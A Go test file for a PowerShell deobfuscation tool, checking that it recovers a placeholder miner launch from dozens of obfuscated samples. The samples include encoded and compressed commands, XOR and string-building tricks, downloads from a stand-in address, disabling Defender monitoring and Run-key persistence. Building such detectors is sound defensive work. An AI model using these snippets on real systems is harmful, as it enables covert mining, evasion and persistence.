package script

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"
)

// lines are the commands of a trace, one a line: the words, or the line, behind
// what starts it.
func lines(t Trace) []string {
	var out []string
	for _, c := range t.Commands {
		var words []string
		for _, w := range c.Words {
			words = append(words, w.String())
		}
		s := strings.Join(words, " ")
		if c.Shell == Line {
			s = c.Line.String()
		}
		out = append(out, s)
	}
	return out
}

// wants checks that a command is among those of a trace.
func wants(t *testing.T, src string, l Language, want ...string) Trace {
	t.Helper()
	tr := Follow([]byte(src), l)
	got := lines(tr)
	for _, w := range want {
		found := false
		for _, g := range got {
			found = found || g == w
		}
		if !found {
			t.Errorf("%q is not among the commands\n%s\nof\n%s", w, strings.Join(got, "\n"), src)
		}
	}
	for _, c := range tr.Commands {
		if c.From < 0 || c.To > len(src) || c.From > c.To {
			t.Errorf("a command stands at %d..%d of %d", c.From, c.To, len(src))
		}
	}
	return tr
}

func utf16base64(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func packed(s string, gz bool) string {
	var b bytes.Buffer
	if gz {
		w := gzip.NewWriter(&b)
		w.Write([]byte(s))
		w.Close()
	} else {
		w, _ := flate.NewWriter(&b, 9)
		w.Write([]byte(s))
		w.Close()
	}
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

// miner is what the samples start; the address is reserved for documentation.
const miner = `svc.exe -o pool.example.org:3333 -u WALLET -k`

func TestPowerShellValues(t *testing.T) {
	for _, c := range []struct{ name, src, want string }{
		{"plain", `& "$env:TEMP\svc.exe" -o pool.example.org:3333`, `%TEMP%\svc.exe -o pool.example.org:3333`},
		{"bare", `svc.exe -o pool.example.org:3333 -u WALLET -k`, miner},
		{"array", `$a = @("-o","pool.example.org:3333","-u","WALLET","-k"); Start-Process -FilePath svc.exe -ArgumentList $a -WindowStyle Hidden`, miner},
		{"array inline", `Start-Process svc.exe -ArgumentList '-o','pool.example.org:3333', "-u", 'WALLET', '-k'`, miner},
		{"array of native", `$a = '-o','pool.example.org:3333','-u','WALLET','-k'; & svc.exe $a`, miner},
		{"splat hash", `$p = @{ FilePath = 'svc.exe'; ArgumentList = '-o pool.example.org:3333 -u WALLET -k' }` + "\n" + `Start-Process @p`, miner},
		{"splat array", `$p = @('-o','pool.example.org:3333','-u','WALLET','-k'); svc.exe @p`, miner},
		{"grown", `$c = 'svc.exe'; $c += ' -o pool.example.org'; $c += ':3333 -u WALLET'; $c += ' -k'; iex $c`, miner},
		{"format", `$c = '{0} -o {1}:{2} -u {3} -k' -f 'svc.exe','pool.example.org',3333,'WALLET'; Invoke-Expression $c`, miner},
		{"format shuffled", `iex ("{2}{0}{1}" -f 'ool.example.org:3333 -u ','WALLET -k','svc.exe -o p')`, miner},
		{"join", `iex (('svc.exe','-o','pool.example.org:3333','-u','WALLET','-k') -join ' ')`, miner},
		{"unary join", `iex (-join ('svc.exe -o pool.exa','mple.org:3333 -u WALLET -k'))`, miner},
		{"string join", `iex ([string]::Join('', @('svc.exe -o pool.example.org',':3333 -u WALLET -k')))`, miner},
		{"concat", `iex ([String]::Concat('svc.exe -o pool.example.org',':3333 -u WALLET -k'))`, miner},
		{"replace", `iex ('svc.exe -o pool_example_org:3333 -u WALLET -k' -replace '_','.')`, miner},
		{"creplace", `iex ('svc.exe -o poolZZexampleZZorg:3333 -u WALLET -k' -cReplace 'ZZ','.')`, miner},
		{"method replace", `iex 'svc.exe -o pool~example~org:3333 -u WALLET -k'.Replace('~','.')`, miner},
		{"method quoted", `iex ('svc.exe -o pool~example~org:3333 -u WALLET -k'."rEpLaCe"('~',[string][char]46))`, miner},
		{"reversed range", `$s = 'k- TELLAW u- 3333:gro.elpmaxe.loop o- exe.cvs'; iex (-join $s[-1..-($s.Length)])`, miner},
		{"reversed array", `$a = 'k- TELLAW u- 3333:gro.elpmaxe.loop o- exe.cvs'.ToCharArray(); [array]::Reverse($a); iex (-join $a)`, miner},
		{"char casts", `iex ([char]115+[char]118+[char]0x63+'.exe -o pool.example.org:3333 -u WALLET -k')`, miner},
		{"char array", `iex (-join [char[]](115,118,99,46,101,120,101) + ' -o pool.example.org:3333 -u WALLET -k')`, miner},
		{"char pipe", `iex (((115,118,99) | % { [char]$_ }) -join '') ; iex ('svc' + '.exe -o pool.example.org:3333 -u WALLET -k')`, miner},
		{"split pipe", `$x = '115,118,99'.Split(',') | ForEach-Object { [char][int]$_ }; iex (($x -join '') + '.exe -o pool.example.org:3333 -u WALLET -k')`, miner},
		{"no blank", `$x = '115,118,99'.Split(',')|%{[char][int]$_}; iex (($x -join '') + '.exe -o pool.example.org:3333 -u WALLET -k')`, miner},
		{"hex split", `$x = -join ('73-76-63' -split '-' | % { [char][convert]::ToInt32($_, 16) }); & "$x.exe" -o pool.example.org:3333 -u WALLET -k`, miner},
		{"ticks", "iN`V`o`K`e`-EX`pressi`on ('svc.exe -o pool.example.org:3333' + ' -u WALLET -k')", miner},
		{"call of text", `&('i'+'ex') 'svc.exe -o pool.example.org:3333 -u WALLET -k'`, miner},
		{"dot call", `.('{1}{0}'-f'ex','i') 'svc.exe -o pool.example.org:3333 -u WALLET -k'`, miner},
		{"pshome", `'svc.exe -o pool.example.org:3333 -u WALLET -k' | & ($pshome[4]+$pshome[30]+'x')`, miner},
		{"comspec", `'svc.exe -o pool.example.org:3333 -u WALLET -k' | .($env:ComSpec[4,26,25]-join'')`, miner},
		{"verbose", `.((gv '*mdr*').name[3,11,2]-join''); & ($VerbosePreference.ToString()[1,3]+'x'-join'') 'svc.exe -o pool.example.org:3333 -u WALLET -k'`, miner},
		{"alias", `Set-Alias go iex; go 'svc.exe -o pool.example.org:3333 -u WALLET -k'`, miner},
		{"sv gv", `sv q ('svc.exe -o pool.example.org:3333 -u WALLET -k'); iex (gv q).Value`, miner},
		{"set-item", `Set-Item Variable:q 'svc.exe -o pool.example.org:3333 -u WALLET -k'; iex (Get-Item Variable:q).Value`, miner},
		{"env", `$env:Q = 'svc.exe -o pool.example.org:3333 -u WALLET -k'; iex $env:Q`, miner},
		{"scriptblock", `& ([scriptblock]::Create('svc.exe -o pool.example.org:3333 -u WALLET -k'))`, miner},
		{"scriptblock invoke", `[ScriptBlock]::Create("svc.exe -o pool.example.org:3333 -u WALLET -k").Invoke()`, miner},
		{"invokescript", `$ExecutionContext.InvokeCommand.InvokeScript('svc.exe -o pool.example.org:3333 -u WALLET -k')`, miner},
		{"block", `& { svc.exe -o pool.example.org:3333 -u WALLET -k }`, miner},
		{"function", "function Go($p, $w = 'WALLET') { svc.exe -o $p -u $w -k }\nGo pool.example.org:3333", miner},
		{"function param", "function Go { param([string]$Pool, [Parameter(Mandatory)][string]$Wallet)\n & svc.exe -o $Pool -u $Wallet -k }\nGo -Wallet WALLET -Pool pool.example.org:3333", miner},
		{"function returns", "function P { return 'pool.example.org:3333' }\nsvc.exe -o (P) -u WALLET -k", miner},
		{"param defaults", "param($Pool = 'pool.example.org:3333', $Wallet = 'WALLET')\nsvc.exe -o $Pool -u $Wallet -k", miner},
		{"uncalled", "function Start-It { svc.exe -o pool.example.org:3333 -u WALLET -k }", miner},
		{"foreach", "foreach ($p in 'pool.example.org:3333','b.example.org:1') { svc.exe -o $p -u WALLET -k }", miner},
		{"for decode", "$b = 114,119,98,47,100,121,100; $s = ''; for ($i = 0; $i -lt $b.Length; $i++) { $s += [char]($b[$i] -bxor 1) }; & $s -o pool.example.org:3333 -u WALLET -k", miner},
		{"while", "$i = 0; $s = ''; while ($i -lt 3) { $s += 'svc'[$i]; $i++ }; & \"$s.exe\" -o pool.example.org:3333 -u WALLET -k", miner},
		{"both branches", "if (Test-Path x) { $p = 'pool.example.org:3333' } else { $p = 'b.example.org:3333' }\nsvc.exe -o $p -u WALLET -k", miner},
		{"other branch", "if (Test-Path x) { $p = 'b.example.org:3333' } else { $p = 'pool.example.org:3333' }\nsvc.exe -o $p -u WALLET -k", miner},
		{"after exit", "if (Get-Process x) { exit }\nsvc.exe -o pool.example.org:3333 -u WALLET -k", miner},
		{"catch", "try { svc1.exe } catch { svc.exe -o pool.example.org:3333 -u WALLET -k }", miner},
		{"switch", "switch ($env:PROCESSOR_ARCHITECTURE) { 'AMD64' { $x = 'svc.exe' } default { $x = 'b.exe' } }\n& $x -o pool.example.org:3333 -u WALLET -k", miner},
		{"here-string", "$x = @\"\nsvc.exe -o pool.example.org:3333 -u WALLET -k\n\"@\niex $x", miner},
		{"wmi", `([wmiclass]'\\.\root\cimv2:Win32_Process').Create('svc.exe -o pool.example.org:3333 -u WALLET -k')`, miner},
		{"invoke-wmi", `Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'svc.exe -o pool.example.org:3333 -u WALLET -k'`, miner},
		{"cim", `Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='svc.exe -o pool.example.org:3333 -u WALLET -k'}`, miner},
		{"process start", `[Diagnostics.Process]::Start('svc.exe', '-o pool.example.org:3333 -u WALLET -k')`, miner},
		{"start info", "$i = New-Object System.Diagnostics.ProcessStartInfo\n$i.FileName = 'svc.exe'\n$i.Arguments = '-o pool.example.org:3333 -u WALLET -k'\n[System.Diagnostics.Process]::Start($i)", miner},
		{"process object", "$p = New-Object System.Diagnostics.Process; $p.StartInfo.FileName='svc.exe'; $p.StartInfo.Arguments='-o pool.example.org:3333 -u WALLET -k'; $p.Start() | Out-Null", miner},
		{"com", `(New-Object -ComObject WScript.Shell).Run('svc.exe -o pool.example.org:3333 -u WALLET -k', 0)`, miner},
		{"task", `$a = New-ScheduledTaskAction -Execute 'svc.exe' -Argument "-o pool.example.org:3333 -u WALLET -k"; Register-ScheduledTask -TaskName Up -Action $a`, miner},
		{"hash members", "$c = @{ Pool = @{ Url = 'pool.example.org:3333' }; User = 'WALLET' }\nsvc.exe -o $c.Pool.Url -u $($c['User']) -k", miner},
		{"join-path", `& (Join-Path $env:APPDATA 'svc.exe') -o pool.example.org:3333`, `%APPDATA%\svc.exe -o pool.example.org:3333`},
		{"invoke member", `$m = 'Replace'; iex ('svc.exe -o pool#example#org:3333 -u WALLET -k'.$m('#','.'))`, miner},
		{"method object", `iex ('svc.exe -o pool#example#org:3333 -u WALLET -k'.Replace.Invoke('#','.'))`, miner},
		{"regex matches", `iex (-join ([regex]::Matches('k- TELLAW u- 3333:gro.elpmaxe.loop o- exe.cvs','.','RightToLeft') | % { $_.Value }))`, miner},
		{"typographic", "& (‘svc’ + “.exe”) –o pool.example.org:3333", "svc.exe -o pool.example.org:3333"},
		{"stop parsing", "svc.exe --% -o pool.example.org:3333", "svc.exe -o pool.example.org:3333"},
		{"download", `(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/' + 'a.exe', "$env:TEMP\a.exe")`, `System.Net.WebClient.downloadfile http://192.0.2.7/a.exe %TEMP%\a.exe`},
		{"download ticks", "(n`Ew-o`BJect ('N'+'et.WebC'+'lient')).('Down'+'loadString').Invoke('http://192.0.2.7/a.ps1')", `System.Net.WebClient.downloadstring http://192.0.2.7/a.ps1`},
		{"iex download", `iex (iwr http://192.0.2.7/a.ps1 -UseBasicParsing)`, `iex $(iwr http://192.0.2.7/a.ps1)`},
		{"iwr url of variables", "$h = '192.0.2.7'; $u = \"http://$h/x.zip\"; Invoke-WebRequest -Uri $u -OutFile c:\\x.zip", `Invoke-WebRequest -Uri http://192.0.2.7/x.zip -OutFile c:\x.zip`},
		{"bits", `Start-BitsTransfer -Source ('http://192.0.2.7' + '/x') -Destination x.exe`, `Start-BitsTransfer -Source http://192.0.2.7/x -Destination x.exe`},
		{"defender", `Set-MpPreference -DisableRealtimeMonitoring $true`, `Set-MpPreference -DisableRealtimeMonitoring True`},
		{"run key", `Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name Up -Value "c:\svc.exe"`, `Set-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name Up -Value c:\svc.exe`},
		{"cmd", `cmd.exe /c "svc.exe -o pool.example.org:3333"`, `cmd.exe /c svc.exe -o pool.example.org:3333`},
		{"marshal", `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('` + utf16base64(miner) + `')))`, miner},
		{"utf8", `iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("` + base64.StdEncoding.EncodeToString([]byte(miner)) + `")))`, miner},
		{"encoded", `powershell.exe -NoP -W Hidden -EncodedCommand ` + utf16base64(miner), miner},
		{"encoded e", `powershell -nop -e ` + utf16base64(miner), miner},
		{"encoded by Start-Process", `Start-Process powershell -ArgumentList "-nop -w hidden -enc ` + utf16base64(miner) + `"`, miner},
		{"command", `powershell -c "svc.exe -o pool.example.org:3333 -u WALLET -k"`, miner},
		{"gzip", `$d = [Convert]::FromBase64String('` + packed(miner, true) + `'); $s = New-Object IO.MemoryStream(,$d); iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`, miner},
		{"deflate", `(New-Object IO.StreamReader((New-Object System.IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('` + packed(miner, false) + `'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd() | iex`, miner},
		{"xor bytes", `$k = 7; $b = [byte[]](116,113,100,41,98,127,98); for ($i=0; $i -lt $b.Count; $i++) { $b[$i] = $b[$i] -bxor $k }; & ([Text.Encoding]::ASCII.GetString($b)) -o pool.example.org:3333 -u WALLET -k`, miner},
		{"start job", `Start-Job -ScriptBlock { svc.exe -o pool.example.org:3333 -u WALLET -k }`, miner},
		{"nested iex", `iex "iex 'svc.exe -o pool.example.org:3333 -u WALLET -k'"`, miner},
		{"line goes on", "svc.exe -o pool.example.org:3333 `\n  -u WALLET `\r\n  -k", miner},
		{"variable in word", "$p='pool.example.org'; svc.exe -o ${p}:3333 -u WALLET -k", miner},
		{"multiline pipe", "'svc.exe -o pool.example.org:3333 -u WALLET -k' |\n  iex", miner},
		{"hidden args", "$args1 = '-o pool.example.org:3333'; Start-Process svc.exe \"$args1 -u WALLET -k\"", miner},
	} {
		t.Run(c.name, func(t *testing.T) { wants(t, c.src, PowerShell, c.want) })
	}
}

func TestPowerShellDocuments(t *testing.T) {
	for _, c := range []struct{ name, src, file, text string }{
		{"here-string", "$b = @\"\ncd %~dp0\nsvc.exe -o pool.example.org:3333\n\"@\n$b | Set-Content -Path (Join-Path -Path 'c:\\x\\' -ChildPath 'van.bat') -Force", `c:\x\van.bat`, "cd %~dp0\nsvc.exe -o pool.example.org:3333\n"},
		{"redirect", "'one' > c:\\a.txt\n\"two\" >> c:\\a.txt", `c:\a.txt`, "one\ntwo\n"},
		{"out-file", "$p='WALLET'; \"user=$p\" | Out-File -FilePath c:\\a.ini -Encoding ascii", `c:\a.ini`, "user=WALLET\n"},
		{"writealltext", "[IO.File]::WriteAllText('c:\\a.json', '{\"a\":1}')", `c:\a.json`, `{"a":1}`},
		{"bytes", "[System.IO.File]::WriteAllBytes('c:\\a.bat', [Convert]::FromBase64String('" + base64.StdEncoding.EncodeToString([]byte("start svc.exe")) + "'))", `c:\a.bat`, "start svc.exe"},
		{"json", "$c = @{ url = 'pool.example.org:3333'; tls = $true; n = 3; l = @('a','b') }\n$c | ConvertTo-Json -Depth 5 | Set-Content \"c:\\config.json\"", `c:\config.json`, `{"url":"pool.example.org:3333","tls":true,"n":3,"l":["a","b"]}` + "\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			tr := Follow([]byte(c.src), PowerShell)
			for _, d := range tr.Documents {
				if d.Name == c.file && d.Text.String() == c.text {
					return
				}
			}
			t.Errorf("%s: no such file among %v", c.src, tr.Documents)
		})
	}
}

func TestPowerShellPlaces(t *testing.T) {
	src := "$p = 'pool.example.org:3333'\n$w = 'WAL' + 'LET'\nsvc.exe -o $p -u $w\n"
	tr := wants(t, src, PowerShell, "svc.exe -o pool.example.org:3333 -u WALLET")
	c := tr.Commands[len(tr.Commands)-1]
	if got := src[c.From:c.To]; got != "svc.exe -o $p -u $w" {
		t.Errorf("the statement is %q", got)
	}
	lo, hi := c.Words[2].Place(0, c.Words[2].Len())
	if src[lo:hi] != "pool.example.org:3333" {
		t.Errorf("the pool stands at %q", src[lo:hi])
	}
	lo, hi = c.Words[4].Place(3, 6)
	if src[lo:hi] != "LET" {
		t.Errorf("the end of the wallet stands at %q", src[lo:hi])
	}
}

func TestPowerShellLayers(t *testing.T) {
	src := "powershell -enc " + utf16base64("iex ('svc.exe' + ' -k')")
	tr := Follow([]byte(src), PowerShell)
	if len(tr.Layers) != 2 || tr.Layers[0].Recipe != "powershell -EncodedCommand: base64, utf-16le" || tr.Layers[1].Text.String() != "svc.exe -k" {
		t.Errorf("layers: %+v", tr.Layers)
	}
}

func TestUnknownStaysAsWritten(t *testing.T) {
	tr := wants(t, "svc.exe -o $Pool -u $Wallet", PowerShell, "svc.exe -o $Pool -u $Wallet")
	if got := fmt.Sprint(tr.Commands[0].Unresolved); got != "[pool wallet]" {
		t.Errorf("unresolved: %s", got)
	}
}

// Ordinary scripts: what they call is told as it is, and nothing is made up.
func TestPowerShellNegatives(t *testing.T) {
	for name, src := range map[string]string{
		"pester":     "Describe 'Start-Miner' {\n  It 'starts' {\n    svc.exe -o pool.example.org:3333 -u WALLET | Should -Be 1\n  }\n}",
		"comment":    "# svc.exe -o pool.example.org:3333\n<# svc.exe -o pool.example.org:3333 #>",
		"text only":  "$help = 'svc.exe -o pool.example.org:3333'",
		"write-host": "$x = 'svc.exe -o pool.example.org:3333'\nif ($false) { iex $x }",
		"help":       "<#\n.EXAMPLE\n svc.exe -o pool.example.org:3333\n#>\nfunction Get-X { param($A) Get-Item $A }",
	} {
		for _, l := range lines(Follow([]byte(src), PowerShell)) {
			if strings.HasPrefix(l, "svc.exe") {
				t.Errorf("%s: %q", name, l)
			}
		}
	}
}

func TestBounds(t *testing.T) {
	for name, src := range map[string]string{
		"brackets":    strings.Repeat("(", 10_000),
		"braces":      strings.Repeat("{", 10_000),
		"subs":        strings.Repeat("$(", 10_000),
		"endless":     "while ($true) { $a += 'x' * 1000 }",
		"doubling":    "$a = 'x' * 100; for ($i = 0; $i -lt 100000; $i++) { $a = $a + $a }",
		"recursion":   "function f { f; f; f }; f",
		"self":        "$x = 'iex $x'; iex $x",
		"array":       "$a = 1..100000; $b = 1..100000 | % { $a + $a }",
		"format bomb": `$a = "{0}{0}{0}{0}{0}{0}{0}{0}{0}{0}"; for ($i=0;$i -lt 99;$i++) { $b = $a -f $b; $a = $a -f $a }`,
		"commas":      strings.Repeat(",", 50_000),
		"quotes":      strings.Repeat(`"$(`, 20_000),
		"elses":       "if (1) {} " + strings.Repeat("elseif ($x) { a } ", 5000),
		"lists":       "$a = @(); $a += ,$a; $a += ,$a; \"$a$a$a$a\"",
		"members":     "$a" + strings.Repeat(".b", 50_000),
		"pipes":       "a" + strings.Repeat("|b", 50_000),
		"ands":        "a" + strings.Repeat("&&b", 50_000),
		"nots":        strings.Repeat("!", 50_000) + "$a",
	} {
		t.Run(name, func(t *testing.T) { Follow([]byte(src), PowerShell) })
	}
}
